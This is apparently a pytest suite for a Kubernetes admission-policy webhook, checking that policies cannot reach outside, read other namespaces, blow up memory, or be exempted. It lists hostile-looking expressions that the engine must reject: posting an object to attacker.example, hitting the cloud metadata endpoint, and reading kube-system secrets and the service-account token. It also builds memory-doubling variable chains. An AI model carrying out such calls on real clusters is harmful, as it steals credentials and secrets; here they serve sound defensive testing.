"""Classes of faults that other policy engines have published, replayed: docs/threat-model.md has the table.

There, a policy is written by a tenant, fetches URLs, reads any namespace, and grows without a limit. Here, policies are
Kubernetes' own: they come from a folder of the operator, and have no input or output.
"""

import contextlib
import resource
from collections.abc import Iterator
from itertools import permutations
from pathlib import Path
from typing import Any

import pytest

from tests.vap.documents import WIDGET, binding, documents, load, policy, request, validate, widget
from webhook.admission.decision import Request
from webhook.admission.errors import CatalogError
from webhook.vap import MemoryContext, NativePolicies, ParamKind
from webhook.vap.mutating.evaluation import MOST_BYTES, size_of

# What the expressions of other engines may call: to fetch, to read any object, to create objects, to read files.
OUTWARD = [
    "http.Get('http://169.254.169.254/')",
    "http.Post('http://attacker.example/', object)",
    "resource.Get('v1', 'secrets', 'kube-system', 'token')",
    "resource.List('v1', 'configmaps', 'kube-system')",
    "globalContext.Get('shared', '')",
    "generator.Apply('kube-system', [object])",
    "image('registry.example/a:1').registry()",
    "imageData.Get('registry.example/a:1')",
    "random('[a-z]{1000}')",
    "file.read('/var/run/secrets/kubernetes.io/serviceaccount/token')",
    "env('HOME')",
    "time.now()",
]


@pytest.mark.parametrize("expression", OUTWARD)
@pytest.mark.parametrize("mutating", [False, True], ids=["validating", "mutating"])
def test_no_expression_has_a_function_that_reaches_outside(expression: str, mutating: bool) -> None:
    if mutating:
        patch = f"[JSONPatch{{op: 'add', path: '/spec/a', value: {expression}}}]"
        spec: dict[str, Any] = {"mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": patch}}]}
    else:
        spec = {"validations": [{"expression": f"dyn({expression}) != null"}]}
    with pytest.raises(CatalogError, match="undeclared reference to"):
        load(policy("p", mutating=mutating, **spec), binding("p", mutating=mutating))


NEVER, ALWAYS = {"expression": "false"}, {"expression": "true"}
CONFIG = {"apiVersion": "v1", "kind": "ConfigMap"}


def config_map(namespace: str, secret: str) -> dict[str, Any]:
    return {**CONFIG, "metadata": {"name": "limits", "namespace": namespace}, "data": {"secret": secret}}


class Reading(MemoryContext):
    """A cluster that notes which params were read."""

    def __init__(self, *objects: dict[str, Any]) -> None:
        super().__init__(objects)
        self.read: list[tuple[str, str]] = []

    def param(self, kind: ParamKind, namespace: str, name: str) -> dict[str, Any] | None:
        self.read.append((namespace, name))
        return super().param(kind, namespace, name)


@pytest.mark.parametrize("namespace", ["team", "other"])
def test_params_are_read_in_the_namespace_of_the_request_whatever_the_object_says(namespace: str) -> None:
    """The object names another namespace wherever it can; only the request, which the API server made, counts."""
    rule = {"expression": "false", "messageExpression": "string(params.data.secret)"}
    loaded = load(policy("p", paramKind=CONFIG, validations=[rule]), binding("p", paramRef={"name": "limits"}))
    cluster = Reading(config_map("team", "of team"), config_map("other", "of other"))
    obj = widget(namespace="kube-system", paramRef={"namespace": "kube-system", "name": "token"})
    obj["metadata"] |= {"namespace": namespace, "annotations": {"namespace": "kube-system"}}
    response = loaded.validate(request(obj, namespace=namespace), cluster)
    assert cluster.read == [(namespace, "limits")]
    assert response.denials[0].text.endswith(f"denied request: of {namespace}")


@pytest.mark.parametrize("name", ["../secrets/token", "limits/status"])
def test_the_name_of_params_cannot_be_a_path(name: str) -> None:
    """A live view does not make a path of a wrong name either: tests/cluster/test_questions.py."""
    rule = policy("p", paramKind=CONFIG, validations=[NEVER])
    with pytest.raises(CatalogError, match=r"spec.paramRef.name"):
        load(rule, binding("p", paramRef={"name": name}))


def test_one_request_sees_no_variable_of_another() -> None:
    variables = [{"name": "kept", "expression": "object.spec.secret"}]
    rule = {"expression": "false", "messageExpression": "string(variables.kept)"}
    loaded = load(policy("p", variables=variables, validations=[rule]), binding("p"))
    for secret in ("first", "second", "first"):
        (denial,) = validate(loaded, widget(secret=secret)).denials
        assert denial.text.endswith(f": {secret}")
    (denial,) = validate(loaded, widget()).denials
    assert "first" not in denial.text


# Each step of a chain doubles its value, or more.
AMPLIFYING = {
    "texts": ("'x'", "$ + $"),
    "lists": ("[1]", "$ + $"),
    "join": ("'x'", "[$, $].join('')"),
    "replace": ("'x'", "$.replace('x', 'xxxxxxxxxx')"),
    "format": ("'x'", "'%s%s'.format([$, $])"),
    "bytes": ("'x'", "string(bytes($ + $))"),
    "map": ("['x']", "$.map(e, e + e) + $"),
    "lists of lists": ("[1]", "[$, $]"),
    "maps of maps": ("{'a': 1}", "{'a': $, 'b': $}"),
}
STEPS = 40
MEMORY = 256 * 1024 * 1024
"""Many times what the budgets allow, and nothing beside 2**40."""


def chain(first: str, step: str) -> list[dict[str, str]]:
    later = [{"name": f"v{i}", "expression": step.replace("$", f"variables.v{i - 1}")} for i in range(1, STEPS)]
    return [{"name": "v0", "expression": first}, *later]


@contextlib.contextmanager
def little_memory() -> Iterator[None]:
    """The process may take :data:`MEMORY` more than it has."""
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    taken = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
    resource.setrlimit(resource.RLIMIT_AS, (taken + MEMORY, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))


@pytest.mark.parametrize(("first", "step"), AMPLIFYING.values(), ids=AMPLIFYING)
def test_a_chain_of_variables_that_doubles_is_ended_by_its_cost_or_stays_small(first: str, step: str) -> None:
    rule = {"expression": f"dyn(variables.v{STEPS - 1}) == dyn(variables.v{STEPS - 2})"}
    loaded = load(policy("p", variables=chain(first, step), validations=[rule]), binding("p"))
    with little_memory():
        assert not validate(loaded, widget()).allowed


DOUBLED = f"variables.v{STEPS - 1}"
NAMES = str([f"a{number}" for number in range(STEPS)])
TOO_LARGE = f"makes more than {MOST_BYTES} bytes"
MUTATIONS = {
    "copies": ("JSONPatch", f"{NAMES}.map(to, JSONPatch{{op: 'copy', from: '/spec', path: '/spec/' + to}})", "copy is"),
    "a value": ("JSONPatch", f"[JSONPatch{{op: 'add', path: '/spec/a', value: {DOUBLED}}}]", TOO_LARGE),
    "a configuration": ("ApplyConfiguration", f"Object{{spec: Object.spec{{a: {DOUBLED}}}}}", TOO_LARGE),
    "a value for each item": (
        "JSONPatch",
        "object.spec.items.map(to, JSONPatch{op: 'add', path: '/spec/' + to, value: object.spec})",
        TOO_LARGE,
    ),
    "an optional": ("ApplyConfiguration", f"Object{{?spec: optional.of(Object.spec{{a: {DOUBLED}}})}}", TOO_LARGE),
}  # fmt: skip


@pytest.mark.parametrize(("sort", "expression", "why"), MUTATIONS.values(), ids=MUTATIONS)
@pytest.mark.parametrize("failure", ["Fail", "Ignore"])
def test_a_mutation_that_multiplies_an_object_is_not_made(sort: str, expression: str, why: str, failure: str) -> None:
    made = {
        "patchType": sort,
        ("jsonPatch" if sort == "JSONPatch" else "applyConfiguration"): {"expression": expression},
    }
    variables = chain(*AMPLIFYING["maps of maps"])
    loaded = load(
        policy("p", mutating=True, variables=variables, mutations=[made], failurePolicy=failure),
        binding("p", mutating=True),
    )
    obj = widget(size=1, items=[f"item-{number}" for number in range(1_000)])
    with little_memory():
        response = loaded.mutate(request(obj), MemoryContext())
    assert response.allowed is (failure == "Ignore")
    assert response.object == obj
    if failure == "Fail":
        assert why in str(response.causes[0].message)


def test_the_size_of_a_value_is_counted_to_a_limit() -> None:
    shared: Any = "x" * 1_000
    for _ in range(60):
        shared = {"a": shared, "b": [shared, shared]}
    assert size_of(shared) > MOST_BYTES
    assert size_of([1] * 1_000_000) > MOST_BYTES
    assert size_of({"ab": [1, True, "x"], "c": {}, "d": []}) == len('{"ab":[1,true,"x"],"c":{},"d":[]}')


# A lax policy beside a strict one, and a binding that only warns beside one that denies.
TOGETHER = [
    policy("strict", validations=[NEVER]),
    policy("lax", validations=[ALWAYS]),
    binding("strict"),
    binding("lax"),
    binding("strict", validationActions=["Warn"]) | {"metadata": {"name": "only-warns"}},
    binding("strict", matchResources={"namespaceSelector": {"matchLabels": {"exempt": "yes"}}})
    | {"metadata": {"name": "elsewhere"}},
]


@pytest.mark.parametrize("order", list(permutations(range(len(TOGETHER))))[::97], ids=str)
def test_nothing_lax_takes_away_what_another_policy_or_binding_denies(order: tuple[int, ...]) -> None:
    """There are no exceptions, so none can be the laxer one: what one binding denies is denied, in any order."""
    response = validate(load(*(TOGETHER[index] for index in order)), widget())
    assert [denial.text for denial in response.denials] == [
        "ValidatingAdmissionPolicy 'strict' with binding 'strict' denied request: failed expression: false"
    ]


@pytest.mark.parametrize("kind", ["PolicyException", "NamespacedValidatingPolicy", "GlobalContextEntry", "Policy"])
def test_what_other_engines_read_of_tenants_has_no_effect_here(kind: str) -> None:
    exception = {
        "apiVersion": "policies.example/v1",
        "kind": kind,
        "metadata": {"name": "e", "namespace": "team"},
        "spec": {"policyRefs": [{"name": "strict", "kind": "ValidatingAdmissionPolicy"}]},
    }
    try:
        loaded = NativePolicies.load(documents(*TOGETHER[:4], exception))
    except CatalogError:
        return
    assert not loaded.validate(request(widget()), MemoryContext([exception])).allowed


MARKS = ("modelgate.dev/ignore", "policies.example/exclude", "admission.example/ignore", "example.com/skip")


@pytest.mark.parametrize("mark", MARKS)
@pytest.mark.parametrize("place", ["labels", "annotations"])
def test_no_mark_on_an_object_exempts_it(mark: str, place: str) -> None:
    obj = widget()
    obj["metadata"][place] = {**obj["metadata"].get(place, {}), mark: "true"}
    assert not validate(load(*TOGETHER), obj).allowed


class Unknowing(MemoryContext):
    """A cluster whose namespaces cannot be read."""

    def namespace(self, name: str) -> dict[str, Any] | None:
        del name


@pytest.mark.parametrize(("failure", "allowed"), [("Fail", False), ("Ignore", True)])
def test_a_selector_that_cannot_be_decided_does_not_let_pass_in_silence(failure: str, allowed: bool) -> None:
    selected = {"namespaceSelector": {"matchLabels": {"tier": "gold"}}}
    matching = {**policy("p")["spec"]["matchConstraints"], **selected}
    loaded = load(policy("p", matchConstraints=matching, validations=[NEVER], failurePolicy=failure), binding("p"))
    assert loaded.validate(request(widget()), Unknowing()).allowed is allowed


@pytest.mark.parametrize("expression", ["object.spec.nothing.at.all == 1", "dyn(null).size() == 1", "dyn([])[7] == 1"])
def test_an_expression_that_fails_is_a_failure_of_its_policy_and_of_no_other(expression: str) -> None:
    broken = policy("broken", validations=[{"expression": expression}])
    response = validate(load(broken, binding("broken"), *TOGETHER[:4]), widget())
    assert ["broken" in denial.text for denial in response.denials] == [True, False]
    assert validate(load(broken, binding("broken")), widget()).denials


def test_a_mutation_writes_only_the_object_under_review() -> None:
    """It may name another namespace; the answer is a change of this object, and the API server refuses its move."""
    moved = "Object{metadata: Object.metadata{namespace: 'kube-system', name: 'other'}}"
    made = {"patchType": "ApplyConfiguration", "applyConfiguration": {"expression": moved}}
    loaded = load(policy("p", mutating=True, mutations=[made]), binding("p", mutating=True))
    asked: Request = request(widget(size=1))
    response = loaded.mutate(asked, MemoryContext())
    assert response.object is not None
    assert response.object["kind"] == WIDGET.kind
    assert (asked.name, asked.namespace) == ("w", "team")
    assert response.object["spec"] == {"size": 1}
